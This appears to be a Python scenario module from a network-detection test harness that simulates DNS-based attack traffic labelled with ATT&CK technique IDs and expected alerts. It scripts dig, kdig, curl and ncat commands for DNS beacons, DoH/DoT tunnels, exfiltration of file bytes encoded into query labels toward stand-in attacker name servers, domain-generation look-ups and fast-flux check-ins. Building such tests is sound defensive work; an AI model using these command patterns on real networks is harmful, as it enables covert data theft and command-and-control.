"""Beacons, exfiltration and resolution tricks over DNS, and over resolvers that encrypt."""
import base64
import random

from engine import addresses as at
from engine.declaration import malicious
from engine.network import Network
from engine.services import CURL, bad_certificate, name_server, secure_resolver, web

RESOLVER, DIRECT = "c1>gw:53/udp", f"c1>{at.BAD_NS}:53/udp"
DIG = "dig +tries=1 +time=3"


@malicious("dns-txt-beacon", "T1071.004 T1132.001", tools="bind9-dnsutils dnsmasq", talks=RESOLVER, expects=["T1071.004"], seconds=75)
def txt_beacon(net: Network) -> None:
    """TXT poll every 3 s +-20 %, base64 tasking in the answer"""
    name_server(net, f"{at.ZONE}=txt:24:160")
    net.c1.every(3, 0.2, 24, lambda n, token: f"{DIG} TXT {token}{n}.{at.ZONE}")


@malicious("dns-txt-beacon-direct", "T1071.004 T1132.001", tools="bind9-dnsutils", talks=DIRECT, expects=["T1071.004"], seconds=75)
def txt_direct(net: Network) -> None:
    """the same straight to an outside name server, with hexadecimal tasks"""
    name_server(net, f"{at.ZONE}=hex:16:90")
    net.c1.every(3, 0.1, 24, lambda n, token: f"{DIG} @{at.BAD_NS} TXT {token}.cfg.{at.ZONE}")


@malicious("dns-a-beacon", "T1071.004", tools="bind9-dnsutils dnsmasq", talks=RESOLVER, expects=["T1071.004"], seconds=75)
def a_beacon(net: Network) -> None:
    """A-record check-in with a counter; data in the address"""
    name_server(net, f"{at.ZONE}=ack")
    net.c1.every(2, 0.3, 35, lambda n, token: f"{DIG} +short A {n}.{token}.{at.ZONE}")


def chunks(size: int, width: int, hexadecimal: bool) -> list[str]:
    """A file in labels."""
    data = random.Random("loot").randbytes(size)
    text = data.hex() if hexadecimal else base64.b32encode(data).decode().lower().rstrip("=")
    return [text[i : i + width] for i in range(0, len(text), width)]


@malicious("dns-exfil-b32", "T1071.004 T1132.001 T1048.003", tools="bind9-dnsutils dnsmasq", talks=RESOLVER, expects=["dns_tunnel medium T1071.004"], seconds=60)
def exfil_b32(net: Network) -> None:
    """a file leaves in base32 labels of A queries"""
    name_server(net, f"{at.ZONE}=ack")
    parts = chunks(2700, 48, hexadecimal=False)
    net.c1.every(0.4, 0.2, len(parts), lambda n, _: f"{DIG} +short A {n}.{parts[n]}.{at.ZONE}")


@malicious("dns-exfil-hex-slow", "T1071.004 T1132.001 T1030", tools="bind9-dnsutils dnsmasq", talks=RESOLVER, expects=["dns_tunnel T1071.004"], seconds=125)
def exfil_hex(net: Network) -> None:
    """hexadecimal chunks, one every 2.5 s, AAAA queries"""
    name_server(net, f"{at.ZONE}=ack")
    parts = chunks(850, 36, hexadecimal=True)
    net.c1.every(2.5, 0.2, len(parts), lambda n, _: f"{DIG} +short AAAA {n}.{parts[n]}.{at.ZONE}")


@malicious("dns-tcp-beacon", "T1071.004", tools="bind9-dnsutils", talks=f"c1>{at.BAD_NS}:53/tcp", expects=["T1071.004"], seconds=75)
def tcp_beacon(net: Network) -> None:
    """TXT over TCP/53, big answers, direct"""
    name_server(net, f"{at.ZONE}=txt:600:1400")
    net.c1.every(3, 0.2, 20, lambda n, token: f"{DIG} +tcp @{at.BAD_NS} TXT {token}.{at.ZONE}")


@malicious("dns-doh-beacon", "T1071.004 T1573.002 T1572", tools="curl unbound", talks=f"c1>{at.OK}.38:443/tcp c1>{at.BAD}:443/tcp", expects=["T1573"], seconds=75)
def doh_beacon(net: Network) -> None:
    """names resolved over HTTPS at an outside resolver (unbound), then an HTTPS beacon"""
    secure_resolver(net)
    web(net.inet, at.BAD, 443, bad_certificate(net), "--body base64")
    doh = f"--cacert {net.material.authority.crt} --doh-url https://dns.resolver.test/dns-query"
    net.c1.every(3, 0.2, 18, lambda n, token: f"{CURL} {doh} https://{at.BAD_NAME}/a/{token}")


@malicious("dns-dot-tunnel", "T1071.004 T1573.002", tools="knot-dnsutils unbound", talks=f"c1>{at.OK}.38:853/tcp", expects=["T1573"], seconds=75)
def dot_beacon(net: Network) -> None:
    """TXT polls over TLS (853) to an outside resolver"""
    secure_resolver(net)
    net.c1.every(3, 0.2, 18, lambda n, token: f"kdig +tls @{at.OK}.38 TXT {token}.sel1._domainkey.postal.test")


def random_names(count: int) -> list[str]:
    draw = random.Random("dga")
    letters = "abcdefghijklmnopqrstuvwxyz"
    return ["".join(draw.choice(letters) for _ in range(draw.randint(12, 19))) + draw.choice([".test", ".example", ".net.test", ".biz.test"]) for _ in range(count)]


@malicious("dns-dga-nxdomain", "T1568.002", tools="bind9-dnsutils curl", talks=f"{RESOLVER} c1>{at.BAD}:80/tcp", names=(f"{random_names(90)[-1]}. 60 IN A {at.BAD}",), expects=["T1568.002"], seconds=80)
def dga_random(net: Network) -> None:
    """89 random names do not exist, the 90th does; then an HTTP beacon goes there"""
    names = random_names(90)
    web(net.inet, at.BAD, 80)
    net.c1.every(0.4, 0.3, len(names), lambda n, _: f"{DIG} +short A {names[n]}")
    net.c1.every(3, 0.2, 8, lambda n, token: f"{CURL} http://{names[-1]}/gate.php?id={token}")


@malicious("time-scaled-dga-slow", "T1568.002", tools="bind9-dnsutils", talks=RESOLVER, stretch=500, timestamps=False, expects=["T1568.002"], seconds=70)
def dga_slow(net: Network) -> None:
    """the first 80 look-ups of dns-dga-nxdomain, nominally five minutes apart"""
    names = random_names(90)
    net.c1.every(0.6, 0.1, 80, lambda n, _: f"{DIG} +short A {names[n]}")


@malicious("dns-dga-dict", "T1568.002", tools="bind9-dnsutils", talks=RESOLVER, expects=["T1568.002"], seconds=80)
def dga_words(net: Network) -> None:
    """names made of dictionary words, one each 1.2 s, none exists"""
    words = "amber stone river cloud north paper quick green tower silver valley morning garden copper winter signal hollow bright market forest".split()
    draw = random.Random("words")
    net.c1.every(1.2, 0.2, 45, lambda n, _: f"{DIG} +short A {draw.choice(words)}{draw.choice(words)}{draw.choice(['', '-'])}{draw.choice(words)}.test")


@malicious("dns-fastflux", "T1568.001", tools="bind9-dnsutils curl", talks=RESOLVER, expects=["T1568.001"], seconds=90)
def fast_flux(net: Network) -> None:
    """one name, five other addresses in each answer (ttl 5); an HTTP beacon follows them"""
    name_server(net, f"{at.FLUX_ZONE}=flux:5:5")
    web(net.inet, "0.0.0.0", 80, options="--close")
    net.c1.every(3, 0.3, 26, lambda n, token: f"{CURL} http://www.{at.FLUX_ZONE}/c?{token}")


@malicious("dns-calculation", "T1568.003", tools="bind9-dnsutils ncat", talks=f"{RESOLVER} c1>198.18.17.92:4444/tcp", expects=["medium T1568.003"], seconds=75)
def calculation(net: Network) -> None:
    """the port is computed from the last two bytes of an A record, then a TCP check-in goes there"""
    name_server(net, f"{at.ZONE}=fixed:198.18.17.92")
    net.inet.start("ncat -lk 198.18.17.92 4444 -e /bin/cat", listens="4444/tcp")
    net.c1.every(4, 0.2, 12, lambda n, token: f"a=$(dig +short A k.{at.ZONE}); IFS=. read -r w x y z <<<$a; echo beat {token} | ncat -w1 $a $((y * 256 + z))")
